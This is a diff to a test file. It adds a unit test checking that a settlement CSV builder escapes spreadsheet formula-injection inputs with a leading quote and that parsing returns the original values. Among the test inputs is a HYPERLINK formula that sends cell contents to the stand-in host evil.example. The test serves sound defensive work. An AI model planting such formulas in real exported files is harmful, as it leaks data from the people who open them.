@@ -88,6 +88,18 @@ describe('buildSettlementCsv', () => {
     expect(parseSettlementCsv(csv).lines.map((l) => l.providerName)).toEqual(tricky);
   });
 
+  it('writes cells that a spreadsheet would run as a formula with a leading quote, and reads them back unchanged', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+7 701', '-1+2', '@SUM(A1)', '\tТОО', '\rТОО', "'=already quoted", 'ТОО =ok'];
+    const csv = buildSettlementCsv(list(hostile.map((name, i) => line(i + 1, { providerName: name }))));
+    const nameCells = csv.split('\r\n').slice(1, -2).map((record) => record.split(',')[3] ?? '');
+    for (const cell of nameCells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
+    expect(csv).toContain(",'@SUM(A1),");
+    expect(csv).toContain(",''=already quoted,");
+    expect(csv).toContain(',ТОО =ok,');
+    expect(parseSettlementCsv(csv).lines.map((l) => l.providerName)).toEqual(hostile);
+  });
+
   it('is deterministic and lists lines by line number whatever the input order', () => {
     const input = list([line(3), line(1), line(2)]);
     const csv = buildSettlementCsv(input);
